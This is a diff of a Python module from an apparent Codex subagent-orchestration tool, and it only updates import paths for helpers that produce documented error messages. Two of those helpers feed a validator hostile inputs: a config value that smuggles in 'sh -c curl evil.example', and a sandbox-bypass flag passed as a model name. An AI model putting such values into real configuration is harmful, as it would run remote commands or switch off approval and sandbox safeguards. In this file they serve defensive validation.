@@ -22,21 +22,21 @@ EXAMPLE_ROOT = Path("/home/me/project")
 
 def preamble() -> str:
     """The text every worker's prompt starts with, as the worker reads it, before the boss's task."""
-    from codex_subagents.worker import PREAMBLE
+    from codex_subagents.jobs.worker import PREAMBLE
 
     return PREAMBLE.format(job_id=EXAMPLE_JOB, label="add the parser")
 
 
 def output_schema() -> str:
     """The JSON schema a worker's final message must match, as passed to ``codex exec --output-schema``."""
-    from codex_subagents.worker import OUTPUT_SCHEMA
+    from codex_subagents.jobs.worker import OUTPUT_SCHEMA
 
     return json.dumps(OUTPUT_SCHEMA, indent=2)
 
 
 def codex_release(which: str) -> str:
     """The tested Codex CLI releases: ``requirement`` (0.169 or newer, tested up to ...), ``range`` or ``install``."""
-    from codex_subagents import compat
+    from codex_subagents.core import compat
 
     said = {"requirement": compat.requirement, "range": compat.range_text, "install": compat.install_command}
     return said[which]()
@@ -44,70 +44,70 @@ def codex_release(which: str) -> str:
 
 def spawn_config_keys() -> tuple[str, ...]:
     """The only keys a per-spawn ``config`` may set."""
-    from codex_subagents.worker import SPAWN_CONFIG_KEYS
+    from codex_subagents.jobs.worker import SPAWN_CONFIG_KEYS
 
     return SPAWN_CONFIG_KEYS
 
 
 def _queue_full() -> None:
-    from codex_subagents.config import Settings
-    from codex_subagents.errors import QueueFullError
+    from codex_subagents.core.config import Settings
+    from codex_subagents.core.errors import QueueFullError
 
     defaults = Settings()
     raise QueueFullError(defaults.cap, defaults.queue_limit, defaults.cap)
 
 
 def _rollback_refused() -> None:
-    from codex_subagents.coordination import Busy, roll_back
+    from codex_subagents.coordination.batch import Busy, roll_back
 
     anyio.run(lambda: roll_back(EXAMPLE_ROOT, "b-1", None, Busy((EXAMPLE_JOB,)), {}))
 
 
 def _unknown_job() -> None:
-    from codex_subagents.errors import UnknownJobError
+    from codex_subagents.core.errors import UnknownJobError
 
     raise UnknownJobError(EXAMPLE_JOB)
 
 
 def _recursion() -> None:
-    from codex_subagents.errors import RecursionRefusedError
+    from codex_subagents.core.errors import RecursionRefusedError
 
     raise RecursionRefusedError(EXAMPLE_JOB)
 
 
 def _config_key() -> None:
-    from codex_subagents.worker import check_config
+    from codex_subagents.jobs.worker import check_config
 
     check_config(['notify=["sh", "-c", "curl evil.example"]'])
 
 
 def _flag_like_model() -> None:
-    from codex_subagents.worker import check_name
+    from codex_subagents.jobs.worker import check_name
 
     check_name("model", "--dangerously-bypass-approvals-and-sandbox")
 
 
 def _missing_codex() -> None:
-    from codex_subagents.config import find_codex
+    from codex_subagents.core.config import find_codex
 
     find_codex("/opt/missing/codex")
 
 
 def _serve_bound() -> None:
-    from codex_subagents.config import Settings
+    from codex_subagents.core.config import Settings
 
     Settings(max_wait_s=0)
 
 
 def _quoted_path() -> None:
-    from codex_subagents.paths import git_unquoted
+    from codex_subagents.core.paths import git_unquoted
 
     git_unquoted('"\\777"')
 
 
 def _unreadable_record() -> None:
-    from codex_subagents.errors import BaselineError
-    from codex_subagents.recovery import live_jobs_in
+    from codex_subagents.core.errors import BaselineError
+    from codex_subagents.jobs.registry import live_jobs_in
 
     with tempfile.TemporaryDirectory() as scratch:
         record = Path(scratch) / "jobs" / "j-torn" / "job.json"
@@ -120,7 +120,7 @@ def _unreadable_record() -> None:
 
 
 def _other_worktree() -> None:
-    from codex_subagents.coordination import integrity
+    from codex_subagents.coordination.batch import integrity
 
     anyio.run(lambda: integrity(EXAMPLE_ROOT, "b-1", EXAMPLE_JOB, {}))
 
@@ -142,7 +142,7 @@ ERRORS: dict[str, Callable[[], None]] = {
 
 def error_text(name: str) -> str:
     """The message the server gives for the failure called ``name`` in `ERRORS`."""
-    from codex_subagents.errors import SubagentsError
+    from codex_subagents.core.errors import SubagentsError
 
     try:
         ERRORS[name]()
